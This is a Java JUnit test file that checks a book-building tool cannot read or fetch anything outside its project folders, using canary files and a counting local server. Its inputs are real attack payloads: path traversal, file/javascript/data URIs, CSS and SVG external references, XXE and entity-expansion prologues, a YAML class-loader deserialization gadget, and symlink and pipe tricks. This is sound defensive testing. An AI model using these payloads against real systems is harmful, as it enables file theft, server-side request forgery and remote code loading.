package press.caveat;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Tries every door out of the two folders. Behind each is a canary: a file with a word of its own,
 * or a server that counts. A door is shut if the build says so, publishes nothing, prints no word
 * of what is behind it, and nobody has knocked at the server.
 */
class ClosedWorldTest {
  @TempDir static Path world;

  private static Path outside;
  private static Canaries canaries;
  private static int tried;

  private Path root;

  @BeforeAll
  static void start() throws IOException {
    outside = world.resolve("outside");
    canaries = Canaries.in(outside);
  }

  @BeforeEach
  void name() throws IOException {
    root = Files.createTempDirectory(world, "book");
  }

  @AfterAll
  static void stop() {
    System.out.printf("%d doors tried, %d knocks at the server%n", tried, canaries.hits());
    canaries.close();
  }

  /** Where doors lead: the server and a file, in every way an address can be written. */
  private static List<String> addresses(String file) {
    String path = outside.resolve(file).toString();
    return List.of(
        "http://" + canaries.host() + "/" + file,
        "HTTP://" + canaries.host() + "/" + file,
        "https://" + canaries.host() + "/" + file,
        "//" + canaries.host() + "/" + file,
        "ftp://" + canaries.host() + "/" + file,
        "file://" + path,
        "file:" + path,
        "FILE://localhost" + path,
        path,
        "../../outside/" + file,
        "figures/../../../outside/" + file,
        "./../../outside/" + file,
        "..%2F..%2Foutside%2F" + file,
        "%2e%2e/%2e%2e/outside/" + file,
        "..\\..\\outside\\" + file,
        "jar:file:" + path + "!/" + file,
        "jar:http://" + canaries.host() + "/x.jar!/" + file,
        "data:image/svg+xml;base64," + base64("<svg>" + Canaries.WORD + "</svg>"),
        "javascript:fetch('http://" + canaries.host() + "')");
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private TestBook book() {
    return TestBook.in(root);
  }

  private void assertShut(TestBook book, String door) {
    TestBook.Run run = book.build();
    assertLeftAlone(run, door);
    assertEquals(1, run.exit(), door);
    assertTrue(run.lines().stream().anyMatch(line -> line.contains(": error: ")), door);
    assertFalse(Files.exists(book.output()), door);
  }

  private static void assertLeftAlone(TestBook.Run run, String door) {
    tried++;
    assertEquals(0, canaries.hits(), door);
    assertFalse(run.out().contains(Canaries.WORD), door);
    assertFalse(run.err().contains(Canaries.WORD), () -> door + "\n" + run.err());
  }

  static Stream<String> images() {
    return addresses("secret.png").stream()
        .flatMap(
            to ->
                Stream.of(
                    "![Words](<" + to + ">){alt=\"Words\"}",
                    "Text ![Words](<" + to + ">){alt=\"Words\"} text.",
                    "![Words][r]{alt=\"Words\"}\n\n[r]: <" + to + ">"));
  }

  @ParameterizedTest
  @MethodSource("images")
  void imagesOfTheText(String markdown) throws IOException {
    assertShut(book().with("manuscript/chapter.md", "# A\n\n" + markdown + "\n"), markdown);
  }

  static Stream<String> markup() {
    String server = "http://" + canaries.host() + "/";
    String file = "file://" + outside.resolve("secret.svg");
    return Stream.of(server, file)
        .flatMap(
            to ->
                Stream.of(
                    "<img src=\"" + to + "\" alt=\"x\">",
                    "<link rel=\"stylesheet\" href=\"" + to + "\">",
                    "<style>@import url(" + to + ");</style>",
                    "<script src=\"" + to + "\"></script>",
                    "<iframe src=\"" + to + "\"></iframe>",
                    "<object data=\"" + to + "\"></object>",
                    "<video poster=\"" + to + "\"></video>",
                    "<p style=\"background:url(" + to + ")\">x</p>",
                    "<svg><image href=\"" + to + "\"/></svg>",
                    "<base href=\"" + to + "\">",
                    "<meta http-equiv=\"refresh\" content=\"0;url=" + to + "\">",
                    "<!DOCTYPE x SYSTEM \"" + to + "\">",
                    "<?xml-stylesheet href=\"" + to + "\"?>",
                    "[x](../../outside/secret.md)",
                    "[x](" + outside.resolve("secret.md") + ")",
                    "[x](file:" + outside.resolve("secret.md") + ")",
                    "[x](javascript:alert(1))",
                    "[x](data:text/html,x)"));
  }

  @ParameterizedTest
  @MethodSource("markup")
  void markupOfTheText(String markdown) throws IOException {
    assertShut(book().with("manuscript/chapter.md", "# A\n\n" + markdown + "\n"), markdown);
  }

  static Stream<String> attributes() {
    String to = "http://" + canaries.host() + "/x";
    return Stream.of(
        "## H {style=\"background:url(" + to + ")\"}",
        "Text. {style=\"background:url(" + to + ")\"}",
        "*x*{style=\"background:url(" + to + ")\"}",
        "![W](dot.png){alt=\"w\" srcset=\"" + to + "\"}",
        "![W](dot.png){alt=\"w\" src=\"" + to + "\"}",
        "![W](dot.png){alt=\"w\" style=\"background:url(" + to + ")\"}",
        "![W](dot.png){alt=\"w\" onload=\"fetch('" + to + "')\"}",
        "[x](https://example.org){ping=\"" + to + "\" style=\"background:url(" + to + ")\"}",
        "[x](https://example.org){href=\"javascript:fetch('" + to + "')\"}",
        "[x](https://example.org){href=\"file://" + canaries.host() + "/x\"}");
  }

  /** Attributes are refused or left out; none reaches an output. */
  @ParameterizedTest
  @MethodSource("attributes")
  void attributesOfTheText(String markdown) throws IOException {
    TestBook book =
        book()
            .with("manuscript/dot.png", Files.readAllBytes(outside.resolve("secret.png")))
            .with("manuscript/chapter.md", "# A\n\n## B\n\n" + markdown + "\n");
    TestBook.Run run = book.build();
    assertLeftAlone(run, markdown);
    if (run.exit() == 0) {
      assertFalse(Outputs.hold(book.output(), canaries.host()), markdown);
    }
  }

  static Stream<String> paths() {
    return addresses("secret.md").stream();
  }

  @ParameterizedTest
  @MethodSource("paths")
  void pathsOfTheSettings(String path) throws IOException {
    String yaml = Files.readString(Path.of("src/test/resources/stock/manuscript/book.yaml"));
    String quoted = "\"" + path.replace("\\", "\\\\") + "\"";
    assertShut(
        book().with("manuscript/book.yaml", yaml.replace("- chapter.md", "- " + quoted)),
        "chapter " + path);
    assertShut(
        book()
            .with(
                "manuscript/book.yaml",
                yaml.replace("disclaimer: disclaimer.md", "disclaimer: " + quoted)),
        "disclaimer " + path);
    assertShut(
        book()
            .with("manuscript/book.yaml", yaml + "citation-style: " + quoted + "\n")
            .with("manuscript/references.json", "[]")
            .with("manuscript/chapter.md", "# A\n\nText [@x].\n"),
        "citation-style " + path);
  }

  static Stream<String> yaml() {
    return Stream.of(
        "subtitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://HOST/\"]]]]",
        "subtitle: !include SECRET",
        "subtitle: !!binary aGVsbG8=\nlang2: &a [*a]",
        "? !!java.net.URL [\"http://HOST/\"]\n: x");
  }

  @ParameterizedTest
  @MethodSource("yaml")
  void tagsOfTheSettings(String line) throws IOException {
    String yaml = Files.readString(Path.of("src/test/resources/stock/manuscript/book.yaml"));
    String filled =
        line.replace("HOST", canaries.host())
            .replace("SECRET", outside.resolve("secret.txt").toString());
    TestBook book = book().with("manuscript/book.yaml", yaml + filled + "\n");
    TestBook.Run run = book.build();
    assertLeftAlone(run, line);
    assertFalse(Files.exists(book.output()) && Canaries.sings(book.output()), line);
  }

  static Stream<String> links() {
    return Stream.of(
        "manuscript/chapter.md>secret.md",
        "manuscript/disclaimer.md>secret.md",
        "manuscript/references.json>references.json",
        "styles/epub.css>secret.css",
        "styles/shared.css>secret.css",
        "styles/print.css>secret.css");
  }

  /** A link in the folder that leads out of it. */
  @ParameterizedTest
  @MethodSource("links")
  void symbolicLinks(String link) throws IOException {
    String[] ends = link.split(">");
    TestBook book = book();
    Path at = root.resolve(ends[0]);
    Files.deleteIfExists(at);
    Files.createSymbolicLink(at, outside.resolve(ends[1]));
    assertShut(book, link);
  }

  @Test
  void symbolicLinksToImagesAndFolders() throws IOException {
    TestBook book = book().with("manuscript/chapter.md", "# A\n\n![W](dot.png){alt=\"w\"}\n");
    Files.createSymbolicLink(root.resolve("manuscript/dot.png"), outside.resolve("secret.png"));
    assertShut(book, "linked image");
    book.with("manuscript/chapter.md", "# A\n\n![W](out/secret.png){alt=\"w\"}\n");
    Files.createSymbolicLink(root.resolve("manuscript/out"), outside);
    assertShut(book, "linked folder");
  }

  /** A hard link cannot be told from a file; a pipe or a device can, and would hang the build. */
  @Test
  void noFileIsReadThatIsNone() throws IOException, InterruptedException {
    TestBook book = book();
    Path pipe = root.resolve("manuscript/chapter.md");
    Files.delete(pipe);
    assumeTrue(
        new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor() == 0, "no pipes here");
    assertShut(book, "pipe");
  }

  static Stream<String> rules() {
    return Stream.concat(
            addresses("secret.css").stream()
                .flatMap(
                    to ->
                        Stream.of(
                            "@import \"" + to + "\";",
                            "@import url(\"" + to + "\") print;",
                            "@font-face { font-family: X; src: url(\"" + to + "\"); }")),
            addresses("secret.svg").stream()
                .flatMap(
                    to ->
                        Stream.of(
                            "p { background-image: url(\"" + to + "\"); }",
                            "p { background: #fff url('" + to + "') no-repeat; }",
                            "li { list-style-image: url(\"" + to + "\"); }",
                            "p::before { content: url(\"" + to + "\"); }",
                            "p { background-image: image-set(\"" + to + "\" 1x); }",
                            "p { cursor: url(\"" + to + "\"), auto; }",
                            "p { --x: url(\"" + to + "\"); background: var(--x); }",
                            "p { background: \\75 rl(\"" + to + "\"); }")))
        .map(rule -> rule.replace("..\\..\\outside\\", "..\\\\..\\\\outside\\\\"));
  }

  @ParameterizedTest
  @MethodSource("rules")
  void rulesOfTheStyles(String css) throws IOException {
    for (String sheet : List.of("shared.css", "epub.css", "print.css")) {
      assertShut(book().with("styles/" + sheet, css + "\n"), sheet + ": " + css);
    }
  }

  static Stream<String> drawings() {
    return Stream.of(
            "<image href='TO' width='9' height='9'/>",
            "<image xlink:href='TO' width='9' height='9'/>",
            "<use href='TO#a'/>",
            "<use xlink:href='TO#a'/>",
            "<style>@import url(TO);</style>",
            "<style>rect { fill: url(TO#a) }</style>",
            "<rect style='fill:url(TO#a)' width='9' height='9'/>",
            "<rect style='fill:\\75rl(TO#a)' width='9' height='9'/>",
            "<rect fill='url(TO#a)' width='9' height='9'/>",
            "<rect filter='url(&quot;TO#a&quot;)' width='9' height='9'/>",
            "<filter id='f'><feImage href='TO'/></filter>",
            "<script href='TO'/>",
            "<script>fetch('TO')</script>",
            "<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='TO'/></foreignObject>",
            "<a href='TO'><rect width='9' height='9'/></a>",
            "<rect onload=\"fetch('TO')\" width='9' height='9'/>",
            "<text><tref xlink:href='TO#a'/></text>",
            "<text><textPath href='TO#a'>x</textPath></text>",
            "<linearGradient id='g' href='TO#a'/>",
            "<pattern id='p' xlink:href='TO#a'/>",
            "<font-face><font-face-src><font-face-uri xlink:href='TO'/></font-face-src></font-face>",
            "<rect width='9' height='9'><animate href='TO#a' attributeName='x'/></rect>",
            "<rect width='9' height='9'><set attributeName='href' to='TO'/></rect>",
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='TO' parse='text'/>",
            "<cursor xlink:href='TO'/>",
            "<color-profile xlink:href='TO' name='x'/>",
            "<audio xmlns='http://www.w3.org/1999/xhtml' src='TO'/>",
            "<glyphRef xlink:href='TO#a'/>",
            "<mpath href='TO#a'/>")
        .flatMap(
            element ->
                Stream.of(
                        "http://" + canaries.host() + "/x.svg",
                        "file://" + outside.resolve("secret.svg"),
                        "../../outside/secret.svg")
                    .map(to -> element.replace("TO", to)));
  }

  @ParameterizedTest
  @MethodSource("drawings")
  void elementsOfDrawings(String element) throws IOException {
    String svg =
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
            + " width='90' height='90'>"
            + element
            + "</svg>";
    drawing(svg, element);
  }

  static Stream<String> documents() {
    String rest = "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='90'>";
    return Stream.of(
        "<!DOCTYPE svg SYSTEM 'http://HOST/x.dtd'>" + rest + "</svg>",
        "<!DOCTYPE svg SYSTEM 'file://OUT/secret.dtd'>" + rest + "<desc>&word;</desc></svg>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://OUT/secret.txt'>]>"
            + rest
            + "<desc>&x;</desc></svg>",
        "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://HOST/x.dtd'> %x;]>" + rest + "</svg>",
        "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c"
            + " '&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'>]>"
            + rest
            + "<desc>&d;</desc></svg>",
        "<?xml-stylesheet href='http://HOST/x.css'?>" + rest + "</svg>",
        "<?xml-stylesheet type='text/xsl' href='file://OUT/secret.svg'?>" + rest + "</svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' xml:base='http://HOST/' width='9' height='9'><use"
            + " href='x.svg#a'/></svg>");
  }

  @ParameterizedTest
  @MethodSource("documents")
  void prologuesOfDrawings(String document) throws IOException {
    String svg = document.replace("HOST", canaries.host()).replace("OUT", outside.toString());
    drawing(svg, document);
  }

  /** A drawing is refused, or what leads out of it reaches no output. */
  private void drawing(String svg, String door) throws IOException {
    TestBook book =
        book()
            .with("manuscript/a.svg", svg)
            .with("manuscript/chapter.md", "# A\n\n![W](a.svg){alt=\"w\"}\n");
    TestBook.Run run = book.build();
    assertLeftAlone(run, door);
    if (run.exit() == 0) {
      assertFalse(Canaries.sings(book.output()), door);
      assertFalse(Outputs.hold(book.output(), canaries.host()), door);
      assertFalse(Outputs.hold(book.output(), "outside/secret"), door);
    }
  }

  static Stream<String> references() {
    return Stream.of(
        "[{\"id\":\"x\",\"type\":\"webpage\",\"title\":\"T\",\"URL\":\"file://OUT/secret.txt\"}]",
        "[{\"id\":\"x\",\"type\":\"webpage\",\"title\":\"<img src='http://HOST/'>\","
            + "\"URL\":\"http://HOST/a\"}]",
        "{\"$ref\":\"file://OUT/references.json\"}");
  }

  @ParameterizedTest
  @MethodSource("references")
  void referencesFetchNothing(String json) throws IOException {
    TestBook book =
        book()
            .with(
                "manuscript/references.json",
                json.replace("HOST", canaries.host()).replace("OUT", outside.toString()))
            .with("manuscript/chapter.md", "# A\n\nText [@x].\n");
    TestBook.Run run = book.build();
    assertLeftAlone(run, json);
    assertFalse(run.exit() == 0 && Canaries.sings(book.output()), json);
  }

  /** A book may lead its reader to the web; building it goes nowhere. */
  @Test
  void linksAreWrittenAndNotFollowed() throws IOException {
    String to = "http://" + canaries.host() + "/page";
    TestBook book =
        book()
            .with("manuscript/chapter.md", "# A\n\nSee [the page](" + to + ") or <" + to + ">.\n");
    TestBook.Run run = book.build();
    assertLeftAlone(run, "link");
    assertEquals(0, run.exit(), run.err());
    assertTrue(Outputs.hold(book.output(), canaries.host()));
    assertFalse(Canaries.sings(book.output()));
  }
}
